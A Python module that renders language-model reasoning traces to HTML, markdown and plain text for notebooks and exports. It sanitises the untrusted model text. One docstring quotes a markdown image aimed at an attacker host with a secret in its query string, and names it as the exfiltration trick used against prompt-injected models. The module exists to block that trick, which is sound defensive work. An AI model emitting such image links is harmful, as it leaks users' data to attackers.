"""Trace -> safe static views: ``text/html``, ``text/markdown``, ``text/plain``, in one of
three modes. Shared by the notebook output (collapsible) and the exporters (any mode).

* ``collapsible``: the reasoning in a closed ``<details>`` whose summary reads
  ``Reasoning · 12.4 s · 2,310 tokens · preset high · ollama:deepseek-r1``.
* ``inline``: the reasoning always visible, in a delimited, styled block (a blockquote in
  markdown), for print, PDF and LaTeX, where nothing can be clicked open.
* ``strip``: the answer only.

Model text is untrusted: markdown is rendered with raw HTML disabled (so ``<script>`` arrives as
text), links are kept only for http, https, mailto and in-page anchors, images become links
(nothing loads by itself), and every other string is escaped.
"""

from __future__ import annotations

import html
from functools import lru_cache
from typing import TYPE_CHECKING

from markdown_it import MarkdownIt

from .core.tokens import reasoning_tokens
from .markdown_safety import SAFE_LINK, html_block, is_inert, md_escape, one_line

if TYPE_CHECKING:
    from .core.trace import Trace

CSS_CLASS = "reasoning-nb"


def _safe_link(url: str) -> bool:
    """Any other link stays visible as the markdown text it was."""
    return SAFE_LINK.match(url.strip()) is not None


def _image_as_link(renderer, tokens, idx, options, env) -> str:
    """A remote image would load by itself (``![x](https://attacker.example/?q=SECRET)`` is the
    known exfiltration trick for prompt-injected models): it becomes a link to click instead."""
    token = tokens[idx]
    src = html.escape(token.attrGet("src") or "")
    alt = html.escape(renderer.renderInlineAsText(token.children or [], options, env)) or src
    return f'<a href="{src}" rel="nofollow noopener noreferrer">image: {alt}</a>'


@lru_cache(maxsize=4)
def _md(breaks: bool, highlight: bool) -> MarkdownIt:
    options = {"html": False, "breaks": breaks, "highlight": _highlight if highlight else None}
    md = MarkdownIt("commonmark", options)
    md.enable(["table", "strikethrough"])
    md.validateLink = _safe_link
    md.add_render_rule("image", _image_as_link)
    return md


def markdown_html(text: str, *, breaks: bool = False, highlight: bool = True) -> str:
    """Render untrusted markdown to HTML with raw HTML off.

    ``highlight=False`` leaves code plain: for text re-sent on every live update, where inline
    highlighting styles would multiply the bytes (the final render highlights).
    """
    return _md(breaks, highlight).render(text)


def _highlight(code: str, lang: str, attrs: str) -> str:
    try:
        from pygments import highlight
        from pygments.formatters import HtmlFormatter
        from pygments.lexers import get_lexer_by_name
        from pygments.util import ClassNotFound
    except ImportError:  # pragma: no cover - pygments comes with IPython
        return ""
    try:
        lexer = get_lexer_by_name(lang.strip() or "text")
    except ClassNotFound:
        return ""  # markdown-it escapes the code itself
    # Inline styles: the output must look right with no stylesheet (GitHub, exports, Lab).
    return highlight(code, lexer, HtmlFormatter(noclasses=True, nowrap=True))


def tokens_label(
    count: int | None, chars: int, *, output: int | None = None, answer_chars: int = 0
) -> str:
    """``2,310 tokens`` from the server's count, else ``≈812 tokens`` (see
    ``core.tokens.reasoning_tokens``); ``1 token`` in the singular; empty with neither."""
    n, estimated = reasoning_tokens(count, output, chars, answer_chars)
    if n is None:
        return ""
    return f"{'≈' if estimated else ''}{n:,} token{'' if n == 1 else 's'}"


def seconds_label(ms: float | None) -> str:
    """``4.2 s``; ``<0.1 s`` for what would read ``0.0 s``."""
    if ms is None:
        return ""
    return "<0.1 s" if ms < 50 else f"{ms / 1000:.1f} s"


def thought_label(ms: float | None, tokens: str) -> str:
    """``Thought for 12.4 s · 2,310 tokens`` (``Reasoning · …`` when it was not timed), from a
    ``tokens_label``."""
    parts = [f"Thought for {seconds_label(ms)}" if ms is not None else "Reasoning"]
    if tokens:
        parts.append(tokens)
    return " · ".join(parts)


def reasoning_summary(trace: Trace) -> str:
    """One line for a finished trace, e.g. ``Thought for 12.4 s · 2,310 tokens``."""
    return thought_label(trace.timing.get("reasoning_ms"), trace_tokens_label(trace))


def trace_tokens_label(trace: Trace) -> str:
    """The reasoning tokens of a finished trace (its output total split when that is all the
    server said), as the stats table counts them."""
    usage = trace.usage
    return tokens_label(
        usage.get("reasoning_tokens"),
        len(trace.reasoning),
        output=usage.get("output_tokens"),
        answer_chars=len(trace.answer),
    )


def footer(trace: Trace) -> str:
    """``ollama:qwen3 · preset high · complete · 3.2 s``, plus warnings on their own."""
    parts = [trace.model or trace.provider, f"preset {trace.preset}"]
    if trace.budget_tokens:
        parts.append(f"budget {trace.budget_tokens:,}")
    parts.append(trace.status)
    total = seconds_label(trace.timing.get("total_ms"))
    if total:
        parts.append(total)
    return " · ".join(p for p in parts if p)


MODES = ("collapsible", "inline", "strip")

_INLINE_BOX = (
    "border:1px solid #d0d7de;border-left:4px solid #8c6bc8;background:#f6f8fa;"
    "padding:0.5em 0.9em 0.1em 0.9em;margin:0.3em 0 0.6em 0;border-radius:4px"
)
_INLINE_HEAD = "font-weight:600;font-size:0.85em;color:#57606a;margin-bottom:0.3em"
_SUMMARY = "cursor:pointer;color:#57606a;font-size:0.95em"
_FOLDED_BODY = "opacity:0.85;border-left:3px solid #ccc;padding-left:0.8em;margin:0.3em 0"
_META = "font-size:0.85em;opacity:0.7"


def _short(text: str, limit: int = 80) -> str:
    """A label part (model id, preset) of sane length."""
    text = one_line(text)
    return text if len(text) <= limit else text[: limit - 1] + "…"


def summary(trace: Trace) -> str:
    """``Reasoning · 12.4 s · 2,310 tokens · preset high · ollama:deepseek-r1``."""
    parts = ["Reasoning", seconds_label(trace.timing.get("reasoning_ms"))]
    parts.append(trace_tokens_label(trace))
    parts.append(f"preset {_short(trace.preset, 24)}" if trace.preset else "")
    if trace.budget_tokens:
        parts.append(f"budget {trace.budget_tokens:,}")
    parts.append(_short(trace.model or trace.provider))
    return one_line(" · ".join(p for p in parts if p))


def notes(trace: Trace) -> list[str]:
    """The lines under the answer: who/how (unless the summary said it), warnings, error."""
    if trace.reasoning:  # model and preset are in the summary already
        total = seconds_label(trace.timing.get("total_ms"))
        first = " · ".join(p for p in (trace.status, total) if p)
    else:
        first = footer(trace)
    lines = [first, *(f"⚠ {w}" for w in trace.warnings)]
    if trace.continued:
        hint = trace.continued.get("hint")
        lines.append(f"continues a stopped run{f', hint: {hint}' if hint else ''}")
    if trace.error:
        lines.append(f"✖ {trace.error}")
    return [one_line(n) for n in lines if one_line(n)]


def to_html(trace: Trace, mode: str = "collapsible") -> str:
    out = [f'<div class="{CSS_CLASS} {CSS_CLASS}-export {CSS_CLASS}-{mode}">']
    if trace.reasoning and mode != "strip":
        head = html.escape(summary(trace))
        body = markdown_html(trace.reasoning, breaks=True)
        if mode == "inline":
            out.append(
                f'<div class="{CSS_CLASS}-reasoning" style="{_INLINE_BOX}">'
                f'<div class="{CSS_CLASS}-summary" style="{_INLINE_HEAD}">{head}</div>{body}</div>'
            )
        else:
            out.append(
                f'<details class="{CSS_CLASS}-reasoning">'
                f'<summary style="{_SUMMARY}">{head}</summary>'
                f'<div style="{_FOLDED_BODY}">{body}</div></details>'
            )
    out.append(f'<div class="{CSS_CLASS}-answer">{markdown_html(trace.answer)}</div>')
    meta = "<br>".join(html.escape(n) for n in notes(trace))
    out.append(f'<div class="{CSS_CLASS}-meta" style="{_META}">{meta}</div></div>')
    return "".join(out)


def safe_markdown(text: str, *, breaks: bool = False, allow_fences: bool = True) -> str:
    """Model text for a markdown file: itself when inert, else its safe HTML rendering."""
    if is_inert(text, allow_fences=allow_fences):
        return text
    return html_block(markdown_html(text, breaks=breaks), f"{CSS_CLASS}-md")


def quote(block: str) -> str:
    """A markdown blockquote of ``block``."""
    return "\n".join(f"> {line}" if line else ">" for line in block.split("\n"))


def pin_head(model: str, preset: str) -> str:
    """A pinned cell's first line (see ``notebook.pin``; a stripped export keeps it)."""
    head = f"Reasoning of {model or 'the model'} · preset {preset}"
    return f"> **{md_escape(head)}**"


def to_markdown(trace: Trace, mode: str = "collapsible") -> str:
    parts = []
    if trace.reasoning and mode != "strip":
        # Quoted text: no fence exemption (fences in blockquotes are where renderers differ).
        body = quote(safe_markdown(trace.reasoning, breaks=True, allow_fences=False))
        if mode == "inline":
            parts.append(f"> **{md_escape(summary(trace))}**\n>\n{body}")
        else:
            head = html.escape(summary(trace))
            parts.append(f"<details>\n<summary>{head}</summary>\n\n{body}\n\n</details>")
    answer = safe_markdown(trace.answer)
    if answer:
        parts.append(answer)
    parts.append("  \n".join(f"*{md_escape(n)}*" for n in notes(trace)))
    return "\n\n".join(p for p in parts if p)


def to_plain(trace: Trace, mode: str = "collapsible") -> str:
    parts = []
    if trace.reasoning and mode != "strip":
        parts.append(f"[{summary(trace)}]\n{trace.reasoning}\n[/reasoning]")
    parts.append(trace.answer)
    parts.extend(f"({n})" if i == 0 else n for i, n in enumerate(notes(trace)))
    return "\n\n".join(p for p in parts if p)


def bundle(trace: Trace, mode: str = "collapsible") -> dict[str, str]:
    """The static MIME bundle: what every ``%%think`` output saves, and what exports show."""
    return {
        "text/html": to_html(trace, mode),
        "text/markdown": to_markdown(trace, mode),
        "text/plain": to_plain(trace, mode),
    }
